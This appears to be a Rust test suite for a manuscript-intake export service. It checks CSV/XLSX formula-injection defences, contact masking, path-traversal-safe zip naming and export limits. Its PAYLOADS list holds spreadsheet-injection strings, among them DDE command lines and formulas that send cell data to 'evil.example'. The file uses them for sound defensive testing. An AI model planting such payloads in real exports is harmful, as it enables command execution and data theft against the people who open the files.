//! Exports: no cell is a formula, no file leaves its folder, nothing damaged leaves as whole.

use std::{
    collections::HashMap,
    fs,
    io::{Cursor, Read},
};

use intake::{letter::Part, ports::Blobs, review::Role, sorting::Class};
use proto::intake::v1::{self, ExportFormat, export_service_client::ExportServiceClient};
use quick_xml::events::{BytesStart, Event};
use stdx::Sha256;
use tonic::{
    Code, Request, Status, Streaming,
    service::{Interceptor, interceptor::InterceptedService},
    transport::Channel,
};
use uuid::Uuid;

use api::TokenSetting;

use crate::world::{Mail, Server, World, document, fields, refusal};

#[derive(Clone)]
struct Bearer(&'static str);

impl Interceptor for Bearer {
    fn call(&mut self, mut request: Request<()>) -> Result<Request<()>, Status> {
        request.metadata_mut().insert("authorization", format!("Bearer {}", self.0).parse().unwrap());
        Ok(request)
    }
}

type Client = ExportServiceClient<InterceptedService<Channel, Bearer>>;

/// A server for a viewer and an editor.
async fn desk(world: &World) -> (Server, Client, Client) {
    let token = |name: &str, role| TokenSetting { name: name.into(), sha256: Sha256::of(name.as_bytes()), role };
    let server = world.serve_with(vec![token("look", Role::Viewer), token("zhang", Role::Editor)]).await;
    let channel = server.channel().await;
    let client = |name| ExportServiceClient::with_interceptor(channel.clone(), Bearer(name));
    (server, client("look"), client("zhang"))
}

macro_rules! whole {
    ($stream:expr) => {{
        let mut stream: Streaming<_> = $stream.into_inner();
        let mut bytes = Vec::new();
        let mut name = None;
        loop {
            match stream.message().await {
                Ok(Some(response)) => {
                    assert!(response.data.len() <= 256 * 1024);
                    name = response.file.map(|file| file.file_name).or(name);
                    bytes.extend(response.data);
                }
                Ok(None) => break Ok((bytes, name.expect("what the file is called"))),
                Err(status) => break Err(status),
            }
        }
    }};
}

async fn register(client: &mut Client, request: v1::ExportRegisterRequest) -> Result<(Vec<u8>, String), Status> {
    whole!(client.export_register(request).await?)
}

async fn files(client: &mut Client, request: v1::ExportFilesRequest) -> Result<(Vec<u8>, String), Status> {
    whole!(client.export_files(request).await?)
}

fn asked(world: &World, format: ExportFormat) -> v1::ExportRegisterRequest {
    v1::ExportRegisterRequest {
        campaign: format!("campaigns/{}", world.campaign.id),
        format: format.into(),
        ..Default::default()
    }
}

/// The lines of a CSV, by a reader that is not ours.
fn csv_lines(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The cells of the first sheet of an XLSX, a row a map of column to kind (ECMA-376, 18.18.11) and words, by a reader that
/// is not the writer's. Panics at a formula.
fn sheet(bytes: Vec<u8>) -> Vec<HashMap<String, (String, String)>> {
    let mut book = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    book.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
    let attribute = |element: &BytesStart<'_>, name: &str| {
        element.try_get_attribute(name).unwrap().map(|value| value.value.into_owned())
    };
    let mut reader = quick_xml::Reader::from_str(&xml);
    let (mut rows, mut at): (Vec<HashMap<String, (String, String)>>, _) = (Vec::new(), String::new());
    loop {
        match reader.read_event().unwrap() {
            Event::Start(element) if element.name().as_ref() == "row" => rows.push(HashMap::new()),
            Event::Start(element) | Event::Empty(element) if element.name().as_ref() == "c" => {
                at =
                    attribute(&element, "r").unwrap().trim_end_matches(|digit: char| digit.is_ascii_digit()).to_owned();
                let kind = attribute(&element, "t").unwrap_or("n".into());
                rows.last_mut().unwrap().insert(at.clone(), (kind, String::new()));
            }
            Event::Start(element) | Event::Empty(element) => {
                assert_ne!(element.name().as_ref(), "f", "a formula cell in {at}");
            }
            Event::Text(words) if !rows.is_empty() && !at.is_empty() => {
                if let Some(cell) = rows.last_mut().unwrap().get_mut(&at) {
                    cell.1.push_str(&words);
                }
            }
            Event::GeneralRef(reference) => {
                let character = match reference.resolve_char_ref().unwrap() {
                    Some(character) => character.to_string(),
                    None => quick_xml::escape::resolve_predefined_entity(&reference).unwrap().to_owned(),
                };
                if let Some(cell) = rows.last_mut().and_then(|row| row.get_mut(&at)) {
                    cell.1.push_str(&character);
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    for (_, words) in rows.iter_mut().flat_map(HashMap::values_mut) {
        // How a workbook spells control characters (ECMA-376, 22.9.2.19).
        *words = words.replace("_x000D_", "\r").replace("_x0009_", "\t");
    }
    rows
}

/// Classes of payloads that make a spreadsheet compute, call out or run something (OWASP; payload-box lists them).
const PAYLOADS: [&str; 24] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "=1+1\";=1+1",
    "\",=1+1,\"",
    "\r\n=1+1",
];

#[tokio::test]
async fn no_words_of_a_mail_become_a_formula_in_either_format() {
    let world = World::new().await;
    for payload in PAYLOADS {
        world.submission(&Mail { subject: payload.into(), ..Mail::default() }).await;
    }
    let (_server, mut viewer, _) = desk(&world).await;

    let (bytes, name) = register(&mut viewer, asked(&world, ExportFormat::Csv)).await.unwrap();
    assert!(name.starts_with("收稿登记簿_20") && name.ends_with(".csv"), "{name}");
    let lines = csv_lines(&bytes);
    assert_eq!(lines.len(), PAYLOADS.len() + 1);
    assert_eq!(lines[0][0], "收稿号");
    for (line, payload) in lines[1..].iter().zip(PAYLOADS) {
        assert_eq!(line.len(), 18, "{payload:?} stays in its cell: {line:?}");
        let danger =
            |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦']);
        assert!(!line.iter().any(danger), "{payload:?}: {line:?}");
        let subject = line[7].strip_prefix('\'').unwrap_or(&line[7]);
        assert_eq!(subject, payload, "the words are all there");
        assert_eq!(line[7].starts_with('\''), payload != "\",=1+1,\"", "{payload:?}");
    }
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.ends_with("\"\r\n") && text.starts_with("\u{feff}\"收稿号\",\"版本\""), "all quoted");

    let (bytes, name) = register(&mut viewer, asked(&world, ExportFormat::Xlsx)).await.unwrap();
    assert!(name.ends_with(".xlsx"), "{name}");
    let rows = sheet(bytes);
    assert_eq!(rows.len(), PAYLOADS.len() + 1);
    for (row, payload) in rows[1..].iter().zip(PAYLOADS) {
        let (kind, subject) = &row["H"];
        assert_eq!((kind.as_str(), subject.as_str()), ("inlineStr", payload), "a text cell, unchanged");
        assert_eq!(row["A"].0, "n", "a number of ours");
    }
    // Nothing of a work folder is left.
    assert_eq!(fs::read_dir(world.folder.path().join("blobs/tmp")).unwrap().count(), 0);
}

#[tokio::test]
async fn contacts_leave_masked_unless_an_editor_asks_for_them() {
    let world = World::new().await;
    world
        .assessed(&Mail {
            text: "姓名：李敏\n单位：浙江省财政厅\n电话：13800001234".into(), ..Mail::default()
        })
        .await;
    let (_server, mut viewer, mut editor) = desk(&world).await;
    let asked = asked(&world, ExportFormat::Csv);
    let whole = v1::ExportRegisterRequest { with_contacts: true, ..asked.clone() };
    let refused = register(&mut viewer, whole.clone()).await;
    assert_eq!(refusal(refused), (Code::PermissionDenied, "ROLE_TOO_LOW".into()));
    for client in [&mut viewer, &mut editor] {
        let lines = csv_lines(&register(client, asked.clone()).await.unwrap().0);
        assert_eq!(lines[1][6], "电话：138****1234；邮箱：l***@czt.example.cn");
    }
    let lines = csv_lines(&register(&mut editor, whole).await.unwrap().0);
    assert_eq!(lines[1][6], "电话：13800001234；邮箱：limin@czt.example.cn");
    assert_eq!((lines[1][4].as_str(), lines[1][5].as_str()), ("李敏", "浙江省财政厅"));
}

#[tokio::test]
async fn a_register_says_of_each_submission_what_is_known() {
    let world = World::new().await;
    world.submission(&Mail { failed: vec![intake::finding::RuleCode::VideoDuration], ..Mail::default() }).await;
    world.submission(&Mail { class: Class::NearMiss, ..Mail::default() }).await;
    let (_server, mut viewer, _) = desk(&world).await;
    let lines = csv_lines(&register(&mut viewer, asked(&world, ExportFormat::Csv)).await.unwrap().0);
    let expected = ["1", "1", "2023-03-01 09:00:00", "邮件服务器收信时间", "李敏", ""];
    assert_eq!(lines[1][..6], expected);
    assert_eq!(lines[1][8..13], ["投稿", "待补", "中文", "已判定", ""]);
    assert_eq!(lines[2][8..12], ["疑似投稿", "合格", "", "不审稿"]);
    assert_eq!(lines[1][17].len(), 64);
    let filtered = v1::ExportRegisterRequest { filter: "state = JUDGED".into(), ..asked(&world, ExportFormat::Csv) };
    assert_eq!(csv_lines(&register(&mut viewer, filtered).await.unwrap().0).len(), 2);
    let wrong = v1::ExportRegisterRequest { filter: "state = X".into(), ..asked(&world, ExportFormat::Csv) };
    assert_eq!(fields(register(&mut viewer, wrong).await), ["filter"]);
    assert_eq!(fields(register(&mut viewer, asked(&world, ExportFormat::Unspecified)).await), ["format"]);
    let unknown = v1::ExportRegisterRequest {
        campaign: format!("campaigns/{}", Uuid::now_v7()),
        ..asked(&world, ExportFormat::Csv)
    };
    assert_eq!(refusal(register(&mut viewer, unknown).await), (Code::NotFound, "CAMPAIGN_NOT_FOUND".into()));
}

/// A mail with these files.
async fn with_files(world: &World, files: &[(&str, &[u8])]) -> Uuid {
    let mut parts: Vec<Part> = Vec::new();
    for (at, (name, bytes)) in files.iter().enumerate() {
        world.blob(bytes).await;
        let mut part = document(&(at + 2).to_string(), name, bytes, "");
        if name.ends_with("mp4") {
            part.media_type = "video/mp4".into();
        }
        parts.push(part);
    }
    world.submission(&Mail { parts, ..Mail::default() }).await
}

#[tokio::test]
async fn files_leave_in_a_folder_a_submission_with_a_manifest_of_what_they_were() {
    let world = World::new().await;
    let film: Vec<u8> = (0..700_000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let files_of = [("../../稿件.txt", &b"one"[..]), ("稿件.TXT", b"two"), ("CON", b"three"), ("片.mp4", &film)];
    let first = with_files(&world, &files_of).await;
    let second = with_files(&world, &[("稿件.txt", b"four")]).await;
    let (_server, mut viewer, mut editor) = desk(&world).await;
    let asked = v1::ExportFilesRequest {
        submissions: [second, first, first].map(|id| format!("submissions/{id}")).into(),
        with_raw_mail: true,
        ..Default::default()
    };
    assert_eq!(refusal(files(&mut viewer, asked.clone()).await), (Code::PermissionDenied, "ROLE_TOO_LOW".into()));
    let (bytes, name) = files(&mut editor, asked).await.unwrap();
    assert!(name.ends_with(".zip"), "{name}");
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut read = |name: &str| {
        let mut bytes = Vec::new();
        archive.by_name(name).unwrap_or_else(|_| panic!("{name}")).read_to_end(&mut bytes).unwrap();
        bytes
    };
    let folder = "0001_李敏_【主题征稿】做法与成效";
    assert_eq!(read(&format!("{folder}/_.._稿件.txt")), b"one");
    assert_eq!(read(&format!("{folder}/稿件.TXT")), b"two");
    assert_eq!(read(&format!("{folder}/_CON")), b"three");
    assert_eq!(read(&format!("{folder}/片.mp4")), film);
    assert_eq!(read("0002_李敏_【主题征稿】做法与成效/稿件.txt"), b"four");
    let manifest: serde_json::Value = serde_json::from_slice(&read("manifest.json")).unwrap();
    let manifest = manifest.as_array().unwrap();
    assert_eq!(manifest.len(), 7, "five files and two mails");
    for file in manifest {
        let bytes = read(file["path"].as_str().unwrap());
        assert_eq!(file["sha256"], Sha256::of(&bytes).hex());
        assert_eq!(file["size_bytes"], bytes.len());
    }
    assert_eq!(manifest[0]["name"], "../../稿件.txt");
    assert_eq!(csv_lines(&read("manifest.csv")).len(), 8);
    let stored = archive.by_name(&format!("{folder}/片.mp4")).unwrap().compression();
    assert_eq!(stored, zip::CompressionMethod::Stored);
}

#[tokio::test]
async fn a_file_that_is_gone_or_changed_ends_the_archive_and_is_never_in_it() {
    let world = World::new().await;
    let id = with_files(&world, &[("稿件.txt", b"as it was")]).await;
    let (_server, _, mut editor) = desk(&world).await;
    let asked = v1::ExportFilesRequest { submissions: vec![format!("submissions/{id}")], ..Default::default() };
    let path = world.blobs.path(Sha256::of(b"as it was")).await.unwrap();
    fs::remove_file(&path).unwrap();
    assert_eq!(refusal(files(&mut editor, asked.clone()).await), (Code::DataLoss, "BLOB_MISSING".into()));
    fs::write(&path, b"as it is!").unwrap();
    assert_eq!(refusal(files(&mut editor, asked).await), (Code::DataLoss, "BLOB_DAMAGED".into()));
}

#[tokio::test]
async fn a_selection_is_bounded_and_every_name_of_it_is_known() {
    let world = World::new().await;
    let ids = world.submissions(2).await;
    let (_server, _, mut editor) = desk(&world).await;
    let of = |submissions: Vec<String>| v1::ExportFilesRequest { submissions, ..Default::default() };
    assert_eq!(fields(files(&mut editor, of(vec![])).await), ["submissions"]);
    let many = (0..1001).map(|_| format!("submissions/{}", ids[0])).collect();
    assert_eq!(fields(files(&mut editor, of(many)).await), ["submissions"]);
    assert_eq!(fields(files(&mut editor, of(vec!["x".into()])).await), ["submissions"]);
    let unknown = vec![format!("submissions/{}", ids[0]), format!("submissions/{}", Uuid::now_v7())];
    assert_eq!(refusal(files(&mut editor, of(unknown)).await), (Code::NotFound, "SUBMISSION_NOT_FOUND".into()));
    let campaign = format!("campaigns/{}", world.campaign.id);
    let whole = v1::ExportFilesRequest { campaign: campaign.clone(), with_raw_mail: true, ..Default::default() };
    let (bytes, _) = files(&mut editor, whole).await.unwrap();
    assert_eq!(zip::ZipArchive::new(Cursor::new(bytes)).unwrap().len(), 4);
    let both =
        v1::ExportFilesRequest { campaign, submissions: vec![format!("submissions/{}", ids[0])], ..Default::default() };
    assert_eq!(fields(files(&mut editor, both).await), ["campaign"]);
}

#[tokio::test]
async fn a_fifth_export_at_once_is_told_to_wait_and_one_that_nobody_takes_ends() {
    let world = World::new().await;
    let big = vec![7; 4 << 20];
    let id = with_files(&world, &[("片.mp4", &big)]).await;
    let (server, _, mut editor) = desk(&world).await;
    let asked = v1::ExportFilesRequest { submissions: vec![format!("submissions/{id}")], ..Default::default() };
    let mut held = Vec::new();
    for _ in 0..4 {
        // A connection each: what one does not take must not fill the window of the next (RFC 9113 §5.2.1).
        let mut caller = ExportServiceClient::with_interceptor(server.channel().await, Bearer("zhang"));
        let mut stream = caller.export_files(asked.clone()).await.unwrap().into_inner();
        stream.message().await.unwrap();
        held.push(stream);
    }
    assert_eq!(refusal(editor.export_files(asked.clone()).await), (Code::ResourceExhausted, "EXPORTS_BUSY".into()));
    drop(held);
    let again = async {
        loop {
            match files(&mut editor, asked.clone()).await {
                Ok((bytes, _)) => break bytes.len(),
                Err(status) => assert_eq!(status.code(), Code::ResourceExhausted),
            }
            tokio::task::yield_now().await;
        }
    };
    assert!(crate::world::soon("a place", again).await > big.len());
}
